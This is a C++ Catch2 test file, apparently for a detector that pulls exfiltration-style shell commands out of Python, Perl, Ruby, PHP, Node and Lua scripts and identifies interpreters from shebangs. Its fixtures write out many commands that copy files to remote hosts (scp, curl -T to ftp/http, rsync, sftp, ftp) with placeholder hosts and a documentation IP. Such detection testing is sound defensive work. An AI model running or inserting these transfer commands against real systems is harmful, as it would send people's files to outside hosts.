#include "foreign_script.hpp"

#include <string>

#include <catch2/catch.hpp>

#include "image.hpp"

namespace auexfil::artefacts::test {

TEST_CASE("foreign script: what its literals start") {
  struct Case {
    const char* interpreter;
    const char* text;
    const char* told;
  };
  const auto c = GENERATE(values<Case>({
      {"python3", "subprocess.run([\"scp\", '-q', path, \"b@192.0.2.1:x\"], check=True)",
       "scp -q * b@192.0.2.1:x"},
      {"python3", "subprocess.run(['scp', os.path.join('/srv', name), f'{user}@h:{to}'])",
       "scp * *@h:*"},
      {"python3", "cmd = ['scp', '-q',\n       path,  # the newest\n       'h:']\nrun(cmd)",
       "scp -q * h:"},
      {"python3", "os.system('scp %s b@h:x' % path)", "scp * b@h:x"},
      {"python3", "os.system(\"scp {} b@h:x\".format(path) + ' 2>&1')", "scp * b@h:x"},
      {"python3", "HOST = 'b@h:x'\ncheck_call(('scp', path, HOST))", "scp * b@h:x"},
      {"python3", "HOST = 'b@h'\ncheck_call(['scp', path, HOST + ':x', f'{HOST}:y'])",
       "scp * b@h:x b@h:y"},
      {"python3", "cmd = f'curl -T {path} ftp://h/'\nsubprocess.call(cmd, shell=True)",
       "curl -T * ftp://h/"},
      {"python3", "cmd = 'curl -T a ftp://h/'\ncmd = other()\nos.system(cmd)", ""},
      {"python3", "subprocess.run(shlex.split('rsync -a /srv h:x'))", "rsync -a /srv h:x"},
      {"python3", "os.execlp('scp', 'scp', 'a', 'h:')", "scp a h:"},
      {"python3", "os.spawnlp(os.P_WAIT, 'scp', 'scp', 'a', 'h:')", "scp a h:"},
      {"python3", "Popen(args=['ftp', '-n', 'h'], stdin=PIPE)", "ftp -n h"},
      {"python3", "run(['bash', '-c', 'scp a h:'])", "bash -c scp a h: | scp a h:"},
      {"python3", "\"\"\"Sends with:\n  run('scp a h:')\n\"\"\"\nprint('scp to h: failed')", ""},
      {"python3", "# os.system('scp a h:')\nx = 'it''s'\ny = a // b", ""},
      {"perl", "system(\"scp\", \"-q\", $file, \"b\\@h:x\") == 0 or die \"scp to h: failed\";",
       "scp -q * b@h:x"},
      {"perl", "my $cmd = \"scp $file b\\@h:x\";\nsystem($cmd);", "scp * b@h:x"},
      {"perl", "system qw(scp -q a\n  h:);", "scp -q a h:"},
      {"perl", "my @out = `curl -T $f http://h/`;", "curl -T * http://h/"},
      {"perl", "open(my $p, '|-', 'sftp', '-b', '-', 'b@h') or die;", "sftp -b - b@h"},
      {"perl", "open(P, \"| ftp -n $host\");", "ftp -n *"},
      {"perl", "# don't\nexec 'scp', $_, 'h:' if $#list;", "scp * h:"},
      {"ruby", "system \"scp\", file, \"b@h:x\"\nputs 'scp to h: done'", "scp * b@h:x"},
      {"ruby", "system(\"scp #{file} b@h:x\")", "scp * b@h:x"},
      {"ruby", "system(*%w[scp -q a h:])\n%x(curl -T a http://h/)",
       "scp -q a h: | curl -T a http://h/"},
      {"php8.2", "<?php // scp a h:\nshell_exec('scp ' . escapeshellarg($f) . ' b@h:x');",
       "scp * b@h:x"},
      {"node",
       "const { execFile } = require('child_process');\n"
       "execFile('scp', ['-q', file, 'b@h:x'], { cwd: '/srv' }, (e) => { log(e); });",
       "scp -q * b@h:x"},
      {"node", "exec(`scp ${file} b@h:x`, done);", "scp * b@h:x"},
      {"node", "log(`scp to h: failed`); // exec('scp a h:')", ""},
      {"lua5.4", "os.execute('scp a h:')", "scp a h:"},
  }));
  CAPTURE(c.interpreter, c.text);
  CHECK(told(commands_of_foreign(c.text, c.interpreter)) == c.told);
}

TEST_CASE("foreign script: whatever is in it, it is read once, and no more than so many commands") {
  std::string text;
  for (int i = 0; i < 20000; ++i) {
    text += "run(['scp', ";
  }
  CHECK(commands_of_foreign(text, "python3").size() <= 256);
  text.clear();
  for (int i = 0; i < 20000; ++i) {
    text += "run(['scp', 'a', 'h:'])\n";
  }
  CHECK(commands_of_foreign(text, "python3").size() == 256);
  const std::string cut = "run(['scp', 'a', 'h:";
  for (std::size_t size = 0; size <= cut.size(); ++size) {
    CHECK(commands_of_foreign(cut.substr(0, size), "python3").size() <= 1);
  }
  CHECK(told(commands_of_foreign("run('scp \x01 h:' + x)", "python3")) == "scp h:*");
  CHECK(commands_of_foreign(std::string(100000, '\''), "perl").empty());
  CHECK(commands_of_foreign(std::string(100000, '('), "perl").empty());
  CHECK(commands_of_foreign("run(['" + std::string(100000, '{') + "'])", "perl").size() <= 1);
}

TEST_CASE("foreign script: which interpreter it is for") {
  struct Case {
    const char* script;
    const char* interpreter;
    bool is_foreign;
  };
  const auto c = GENERATE(values<Case>({
      {"#!/usr/bin/python3\n", "python3", true},
      {"#!/usr/bin/env python3.11\n", "python3.11", true},
      {"#! /usr/bin/env -S perl -w\n", "perl", true},
      {"#!/usr/bin/perl -w", "perl", true},
      {"#!/bin/sh\n", "sh", false},
      {"#!/opt/perlish\n", "perlish", false},
      {"#!", "", false},
      {"scp a h:\n", "", false},
      {"", "", false},
  }));
  CAPTURE(c.script);
  CHECK(interpreter_of(c.script) == c.interpreter);
  CHECK(is_foreign(interpreter_of(c.script)) == c.is_foreign);
}

}  // namespace auexfil::artefacts::test
